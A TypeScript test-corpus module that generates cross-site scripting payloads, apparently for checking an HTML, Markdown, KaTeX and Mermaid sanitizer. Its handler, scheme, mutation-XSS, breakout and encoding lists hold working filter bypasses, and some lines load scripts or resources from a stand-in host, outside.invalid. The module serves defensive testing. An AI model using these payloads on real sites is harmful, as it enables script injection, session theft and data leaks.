/** Set by any payload whose script runs, in whatever frame. */
export const FIRED = '__leewardInjected';
const RUN = `window.${FIRED}=1`;
/** Nothing answers there; asking is the fault. */
const OUTSIDE = 'https://outside.invalid';

export interface Payload {
  /** What it tries. */
  kind: string;
  text: string;
}

// Elements that run a handler by themselves or at the first touch.
const HANDLERS: readonly [element: string, event: string, more?: string][] = [
  ['img', 'onerror', 'src=x'],
  ['img', 'onload', 'src=data:image/gif;base64,R0lGODlhAQABAAAAACw='],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['video', 'onerror', 'src=x'],
  ['audio', 'onloadstart', 'src=x'],
  ['input', 'onfocus', 'autofocus'],
  ['select', 'onfocus', 'autofocus'],
  ['textarea', 'onfocus', 'autofocus'],
  ['button', 'onfocus', 'autofocus'],
  ['div', 'onfocus', 'tabindex=0 autofocus'],
  ['details', 'ontoggle', 'open'],
  ['marquee', 'onstart'],
  ['p', 'onpointerover'],
  ['b', 'onanimationstart', 'style=animation:spin'],
  ['i', 'ontransitionend', 'style=transition:1s'],
  ['iframe', 'onload'],
  ['object', 'onerror', 'data=x'],
  ['embed', 'onload', 'src=x'],
  ['link', 'onerror', 'rel=stylesheet href=x'],
  ['script', 'onerror', 'src=x'],
  ['style', 'onload'],
  ['x-any', 'onclick'],
  ['dialog', 'onclose', 'open'],
  ['span', 'oncontentvisibilityautostatechange', 'style=content-visibility:auto'],
  ['a', 'onscrollsnapchange', 'href=#'],
  ['form', 'onformdata'],
];

/** Spellings of one tag that a parser reads alike and a filter may not. */
const SPELLINGS: readonly ((element: string, event: string, more: string) => string)[] = [
  (element, event, more) => `<${element} ${more} ${event}="${RUN}">x</${element}>`,
  (element, event, more) => `<${element.toUpperCase()} ${more} ${event.toUpperCase()}=${RUN}>`,
  (element, event, more) => `<${element}/${more.replaceAll(' ', '/')}/${event}=${RUN}//`,
  (element, event, more) => `"'><${element}\n${more}\t${event} = '${RUN}' x="`,
];

/** Ways to write the scheme of a script address. */
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\u0001javascript:',
  'java\tscript:',
  'java\nscript:',
  'java&Tab;script:',
  'javascript&colon;',
  'javascript&#58;',
  '&#106;avascript:',
  '&#x6A;&#x61;vascript:',
  'javascript\u200b:',
  'java\u00adscript:',
  'ｊavascript:',
  'javascript://%0a',
  'vbscript:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,<svg onload=x>',
  'blob:null/',
  'file:///etc/passwd#',
  'view-source:javascript:',
] as const;

/** Places of Markdown that hold an address. */
const LINKS: readonly ((address: string) => string)[] = [
  (address) => `[x](${address}${RUN})`,
  (address) => `![x](<${address}${RUN}>)`,
  (address) => `<${address}${RUN}>`,
  (address) => `[y]\n\n[y]: ${address}${RUN} "title"`,
  (address) => `<a href="${address}${RUN}">x</a>`,
];

/** Texts that turn into something else when they are parsed, written out and parsed again. */
const MUTATING = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<template><s><template><img src=x onerror=${RUN}></template></s></template>`,
  `<select><template><style></select><img src=x onerror=${RUN}></style></template>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<xmp></xmp><img src=x onerror=${RUN}>`,
  `<textarea></textarea><img src=x onerror=${RUN}>`,
  `<title></title><svg/onload=${RUN}>`,
  `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${FIRED}=1</script>"></foreignObject></svg>`,
  `<svg><set attributeName=onmouseover to=${RUN}><animate attributeName=href values=javascript:${RUN}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"></use></svg>`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  `<a id=x><a id=x name=y href="javascript:${RUN}">clobber</a>`,
  `<form id=document><input name=cookie><input name=createElement></form>`,
  `<div><template shadowrootmode=open><script>${RUN}</script></template></div>`,
];

/** Scripts, pages in pages, and what changes a whole page. */
const DOCUMENTS = [
  `<script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\u0000>${RUN}</script>`,
  `<script type=module>${RUN}</script>`,
  `<script src=${OUTSIDE}/a.js></script>`,
  `<script type=importmap>{"imports":{"x":"${OUTSIDE}/b.js"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${OUTSIDE}/c"]}]}</script>`,
  `<iframe src="javascript:parent.${FIRED}=1"></iframe>`,
  `<iframe srcdoc="<script>parent.${FIRED}=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<base href="${OUTSIDE}/">`,
  `<meta http-equiv=refresh content="0;url=${OUTSIDE}/">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<form action="javascript:${RUN}"><button autofocus>go</button></form>`,
  `<button formaction="${OUTSIDE}/">go</button>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><svg onload=${RUN}/>`,
  `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${RUN}>">]>&y;`,
];

/** What asks for something outside without a script. */
const LOADING = [
  `<img src="${OUTSIDE}/1.png">`,
  `![pixel](${OUTSIDE}/2.png)`,
  `<img srcset="${OUTSIDE}/3.png 2x">`,
  `<picture><source srcset="${OUTSIDE}/4.png"><img></picture>`,
  `<video poster="${OUTSIDE}/5.png"></video>`,
  `<audio src="${OUTSIDE}/6.ogg" autoplay></audio>`,
  `<track src="${OUTSIDE}/7.vtt" default>`,
  `<link rel=stylesheet href="${OUTSIDE}/8.css">`,
  `<link rel=dns-prefetch href="${OUTSIDE}">`,
  `<style>@import "${OUTSIDE}/9.css";</style>`,
  `<style>@font-face{font-family:x;src:url(${OUTSIDE}/10)}*{font-family:x}</style>`,
  `<p style="background:url(${OUTSIDE}/11)">x</p>`,
  `<p style="list-style-image:url(${OUTSIDE}/12);cursor:url(${OUTSIDE}/13),auto">x</p>`,
  `<table background="${OUTSIDE}/14"><tr><td background="${OUTSIDE}/15">x</table>`,
  `<svg><image href="${OUTSIDE}/16.svg"/><feImage href="${OUTSIDE}/17.svg"/></svg>`,
  `<a href="${OUTSIDE}" ping="${OUTSIDE}/18">x</a>`,
  `[![x](${OUTSIDE}/19.png)](${OUTSIDE}/20)`,
  `<iframe src="${OUTSIDE}/21"></iframe>`,
];

/** Maths, diagrams and code are read by other parsers. */
const TYPESET = [
  `$\\href{javascript:${RUN}}{x}$`,
  `$$\\url{javascript:${RUN}}$$`,
  `$\\includegraphics{${OUTSIDE}/30.png}$`,
  `$\\htmlData{onclick=${RUN}}{x}$ $\\htmlClass{a" onclick="${RUN}}{x}$`,
  `$\\htmlStyle{background:url(${OUTSIDE}/31)}{x}$`,
  `$\\text{<img src=x onerror=${RUN}>}$`,
  `$$\\unicode{<script>${RUN}</script>}$$`,
  `$\\def\\x{\\x\\x}\\x$`,
  `\`\`\`mermaid\nflowchart TD\n A["<img src=x onerror=${RUN}>"] --> B\n\`\`\``,
  `\`\`\`mermaid\nflowchart TD\n A --> B\n click A "javascript:${RUN}"\n\`\`\``,
  `\`\`\`mermaid\nflowchart TD\n A --> B\n click A call ${FIRED}()\n\`\`\``,
  `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\nflowchart TD\n A["<script>${RUN}</script>"]\n\`\`\``,
  `\`\`\`mermaid\n%%{init: {"themeCSS": "*{background:url(${OUTSIDE}/32)}"}}%%\nflowchart TD\n A-->B\n\`\`\``,
  `\`\`\`mermaid\nsequenceDiagram\n A->>B: <svg onload=${RUN}>\n\`\`\``,
  `\`\`\`mermaid\nflowchart TD\n A@{ img: "${OUTSIDE}/33.png", label: "x" }\n\`\`\``,
  `\`\`\`mermaid\n---\ntitle: <img src=x onerror=${RUN}>\n---\npie\n "<b onclick=${RUN}>" : 1\n\`\`\``,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`js" onmouseover="${RUN}\ncode\n\`\`\``,
  `\`\`\`"><img src=x onerror=${RUN}>\ncode\n\`\`\``,
  `\`\`\`svg\n<svg onload=${RUN}></svg>\n\`\`\``,
  `\`<img src=x onerror=${RUN}>\``,
];

/** Ends of what the text may have been put into. */
const BREAKING = [
  `</title><script>${RUN}</script>`,
  `</textarea><img src=x onerror=${RUN}>`,
  `</style><img src=x onerror=${RUN}>`,
  `</script><script>${RUN}</script>`,
  `" autofocus onfocus="${RUN}`,
  `' autofocus onfocus='${RUN}`,
  `\` onfocus=${RUN} autofocus x=\``,
  `';${RUN};//`,
  `";${RUN};//`,
  `\\";${RUN};//`,
  `\u2028${RUN}\u2029`,
  `]]><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `{@html "<img src=x onerror=${RUN}>"}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `__proto__`,
  `constructor`,
  `%3Cimg%20src%3Dx%20onerror%3D${RUN}%3E`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `＜img src=x onerror=${RUN}＞`,
  `\u202e<img src=x onerror=${RUN}>\u202c`,
  `<im\u0000g src=x onerror=${RUN}>`,
  `\uFEFF<svg/onload=${RUN}>`,
];

const named = (kind: string, texts: readonly string[]): Payload[] => texts.map((text) => ({ kind, text }));

/** Every payload, each once: written out by class in our own words, and variants made from those. */
export const xssCorpus: readonly Payload[] = [
  ...named(
    'handler',
    HANDLERS.flatMap(([element, event, more = '']) => SPELLINGS.map((spell) => spell(element, event, more))),
  ),
  ...named('address', SCHEMES.flatMap((scheme) => LINKS.map((link) => link(scheme)))),
  ...named('mutating', MUTATING),
  ...named('document', DOCUMENTS),
  ...named('loading', LOADING),
  ...named('typeset', TYPESET),
  ...named('breaking', BREAKING),
]; // prettier-ignore
